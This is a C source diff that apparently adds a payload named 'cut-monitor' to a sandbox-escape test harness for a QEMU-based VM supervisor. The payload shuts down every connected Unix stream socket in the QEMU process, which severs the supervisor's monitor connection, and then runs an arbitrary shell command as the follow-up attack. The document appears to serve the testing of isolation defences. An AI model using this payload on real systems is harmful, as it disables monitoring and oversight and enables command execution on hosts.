@@ -1793,10 +1793,48 @@ static void p_bypath(const char *name, const char *arg)
 	report(name, done > 0, "%s", out);
 }
 
+/*
+ * cut-monitor: cuts kfv off its private monitor from inside QEMU, whatever
+ * the monitor's form (a -qmp unix: socket kfv connected to, a socketpair
+ * chardev): shutdown(SHUT_RDWR) of every connected AF_UNIX stream socket
+ * of QEMU, the connections of all its monitors among them. result=ok when
+ * one was shut down. Then, with an argument, the attack that follows the
+ * cut: exec-shell of the argument, reported as NAME-exec.
+ */
+static void p_cut_monitor(const char *name, const char *arg)
+{
+	int n = 0;
+	for (int fd = 3; fd < 4096; fd++) {
+		int dom = 0, type = 0;
+		socklen_t l = sizeof dom;
+		if (getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &dom, &l) || dom != AF_UNIX)
+			continue;
+		l = sizeof type;
+		if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &l) || type != SOCK_STREAM)
+			continue;
+		struct sockaddr_storage peer;
+		socklen_t pl = sizeof peer;
+		if (getpeername(fd, (struct sockaddr *)&peer, &pl))
+			continue; /* a listener, or not connected */
+		if (shutdown(fd, SHUT_RDWR) == 0)
+			n++;
+	}
+	report(name, n > 0, "shut down %d connected unix stream sockets", n);
+	if (*arg) {
+		char ename[CMD_MAX + 8];
+		snprintf(ename, sizeof ename, "%s-exec", name);
+		p_exec_shell(ename, arg);
+	}
+}
+
 static int reach_payload(const char *base, const char *name, const char *arg)
 {
 	if (!strcmp(base, "bypath")) {
 		p_bypath(name, arg);
+		return 1;
+	}
+	if (!strcmp(base, "cut-monitor")) {
+		p_cut_monitor(name, arg);
 		return 1;
 	}
 	if (!strcmp(base, "sigio-kill"))
